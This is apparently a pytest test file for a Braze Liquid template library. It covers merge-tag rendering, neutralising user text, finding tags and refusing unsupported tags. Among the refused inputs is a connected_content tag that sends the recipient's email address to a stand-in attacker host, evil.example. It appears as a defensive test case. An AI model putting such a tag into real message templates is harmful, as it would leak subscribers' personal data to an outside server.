"""Merge tags written, text made inert, tags found, and messages rendered as Braze would."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from braze_client.liquid import (
    LiquidRefused,
    LiquidSyntaxInvalid,
    MessageAborted,
    contains_liquid,
    merge_tag,
    neutralise,
    render,
    tags_in,
    verify,
)

CONTEXT = {
    "first_name": "<Ann>",
    "email_address": "ann@example.com",
    "set_user_to_unsubscribed_url": "https://example.com/u",
    "custom_attribute": {"zip code": "10115", "pets": [{"name": "Rex"}], "vip": True},
    "api_trigger_properties": {"headline": "Hi"},
    "campaign": {"api_id": "c-1"},
    "subscribed_state": {"email_global": "subscribed"},
}
HOSTILE = st.text(alphabet="{}%$ab \u200b'", max_size=12)


@pytest.mark.parametrize(
    ("text", "rendered"),
    [
        ("no Liquid, 20 % off {", "no Liquid, 20 % off {"),
        ("{{${first_name}}}", "<Ann>"),
        ("{{${first_name} | default: 'there' | escape}}", "&lt;Ann&gt;"),
        ("{{${last_name} | default: 'there'}}", "there"),
        ("{{ ${email_address} }}", "ann@example.com"),
        ("{{custom_attribute.${zip code}}}", "10115"),
        ("{{custom_attribute.${pets}[0].name}}", "Rex"),
        ("{{custom_attribute.${missing} | default: '' | escape}}|", "|"),
        ("{{api_trigger_properties.${headline}}}", "Hi"),
        ("{{campaign.${api_id}}}", "c-1"),
        ("{{subscribed_state.${email_global}}}", "subscribed"),
        ("<a href='{{${set_user_to_unsubscribed_url}}}'>", "<a href='https://example.com/u'>"),
        ("{% if {{custom_attribute.${vip}}} %}VIP{% endif %}", "VIP"),
        ("{% if ${first_name} == 'Bob' %}Bob{% else %}other{% endif %}", "other"),
        ("{% assign x = {{${email_address}}} %}{{ x | upcase }}", "ANN@EXAMPLE.COM"),
        ("{% raw %}{{${first_name}}}{% endraw %}", "{{${first_name}}}"),
        ("{{ 'a' | sha1 }}", "86f7e437faa5a7fce15d1ddcb9eaeaea377667b8"),
        ("{{ 'a b&c' | url_param_escape }}", "a%20b%26c"),
    ],
)
def test_brazes_forms_render_from_the_profile__contract_17(text: str, rendered: str) -> None:
    assert render(text, CONTEXT) == rendered


@pytest.mark.parametrize(
    "text",
    [
        "{% connected_content https://evil.example/?{{${email_address}}} :save x %}",
        "{{content_blocks.${footer}}}",
        "{% catalog_items menu 1 %}",
        "{% promotion('list') %}",
        "{% message_extras :key a :value b %}",
        "{{${shoe_size}}}",
        "{{ anything }}",
    ],
)
@pytest.mark.contract("B-LIQ-5")
def test_what_the_portal_never_sends_fails_loudly_and_is_empty_as_braze(text: str) -> None:
    with pytest.raises(LiquidRefused):
        render(text, CONTEXT)
    with pytest.raises(LiquidRefused):
        verify(text)

    assert render(text, CONTEXT, as_braze=True) == ""


@pytest.mark.parametrize(
    "text", ["{{${first_name}", "{% if ${first_name} %}", "{% nonsense %}", "{{ 'a' | nofilter }}"]
)
@pytest.mark.parametrize("as_braze", [False, True])
def test_what_no_engine_accepts_is_an_error_in_both_modes(text: str, as_braze: bool) -> None:
    with pytest.raises(LiquidSyntaxInvalid):
        render(text, CONTEXT, as_braze=as_braze)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("{% abort_message('not today') %}", "not today"),
        ('{% abort_message("a") %}', "a"),
        ("{% abort_message() %}", ""),
        ("{%- abort_message -%}", ""),
    ],
)
def test_abort_message_ends_the_rendering_with_its_reason(text: str, reason: str) -> None:
    with pytest.raises(MessageAborted) as caught:
        render(f"x{text}", CONTEXT)

    assert caught.value.reason == reason


def test_an_abort_in_the_branch_not_taken_aborts_nothing() -> None:
    assert render("{% unless custom_attribute.${vip} %}{% abort_message('x') %}{% endunless %}ok", CONTEXT) == "ok"


def test_a_value_of_the_profile_is_never_read_as_liquid() -> None:
    context = {"first_name": "{{${email_address}}}{% abort_message('x') %}"}

    assert render("{{${first_name}}}", context) == context["first_name"]


@pytest.mark.parametrize(
    ("attribute", "default", "tag"),
    [
        ("first_name", "there", "{{${first_name} | default: 'there' | escape}}"),
        ("zip code", "", "{{custom_attribute.${zip code} | default: '' | escape}}"),
        ("city", "Ihre Stadt – 20 %", "{{${city} | default: 'Ihre Stadt – 20 %' | escape}}"),
    ],
)
@pytest.mark.contract("B-LIQ-2", "B-LIQ-3")
def test_a_merge_tag_is_written_in_one_form(attribute: str, default: str, tag: str) -> None:
    assert merge_tag(attribute, default) == tag
    assert render(tag, {}) == default


def test_a_merge_tag_for_plain_text_leaves_escaping_out() -> None:
    assert merge_tag("first_name", "you", html=False) == "{{${first_name} | default: 'you'}}"


@pytest.mark.parametrize(
    ("attribute", "default"),
    [
        *(("first_name", text) for text in ("it's", 'a "b"', "{", "}}", "a|b", "<b>", "two\nlines", "\\", "x" * 256)),
        *((name, "x") for name in ("", " first", "a}b", "a'b", "a|b", "${x}", "x" * 256, "a\nb", "last ")),
    ],
)
@pytest.mark.contract("B-LIQ-2")
def test_a_name_or_default_that_could_leave_its_tag_is_refused(attribute: str, default: str) -> None:
    with pytest.raises(LiquidRefused):
        merge_tag(attribute, default)


@pytest.mark.parametrize("text", ["{{", "}}", "{%", "%}", "${", "a {{ b"])
@pytest.mark.contract("B-LIQ-1")
def test_each_delimiter_counts_as_liquid(text: str) -> None:
    assert contains_liquid(text)
    assert not contains_liquid(neutralise(text))


def test_text_without_braces_stays_as_it_is() -> None:
    assert neutralise("Save 20% on 5 $ items, it's real") == "Save 20% on 5 $ items, it's real"
    assert not contains_liquid("{ % } $ 100 %")


@given(st.lists(HOSTILE, max_size=6))
@pytest.mark.contract("B-LIQ-1")
def test_joined_neutralised_texts_hold_no_delimiter_and_keep_what_was_typed(texts: list[str]) -> None:
    joined = "".join(neutralise(text) for text in texts)

    assert not contains_liquid(joined)
    assert tags_in(joined) == ()
    assert joined.replace("\u200b", "") == "".join(texts).replace("\u200b", "")


@given(HOSTILE)
def test_neutralising_twice_changes_nothing_more(text: str) -> None:
    assert neutralise(neutralise(text)) == neutralise(text)


@given(HOSTILE, st.sampled_from(["{", "$", "%", "}", "a", "a {"]))
def test_no_text_opens_a_tag_with_a_lone_brace_of_the_template(text: str, literal: str) -> None:
    inert = neutralise(text)

    assert tags_in(literal + inert) == tags_in(inert + literal) == ()


def test_tags_are_found_with_their_places() -> None:
    text = "a {{${first_name} | default: 'x'}} b {% if ${x} %}{{custom_attribute.${y}}}{% endif %} c"

    found = tags_in(text)

    assert [tag.source for tag in found] == [
        "{{${first_name} | default: 'x'}}",
        "{% if ${x} %}",
        "{{custom_attribute.${y}}}",
        "{% endif %}",
    ]
    assert all(text[tag.start : tag.end] == tag.source for tag in found)


def test_an_unclosed_opener_runs_to_the_end() -> None:
    assert [tag.source for tag in tags_in("a {{x}} b {% if c")] == ["{{x}}", "{% if c"]


@pytest.mark.parametrize("text", ["{{" * 50_000, "${a}" * 50_000, "{{" + "${a}" * 50_000, "{%" + "{{${" * 50_000])
def test_hostile_text_is_read_in_one_pass(text: str) -> None:
    started = time.perf_counter()

    tags_in(text)
    neutralise(text)

    assert time.perf_counter() - started < 1
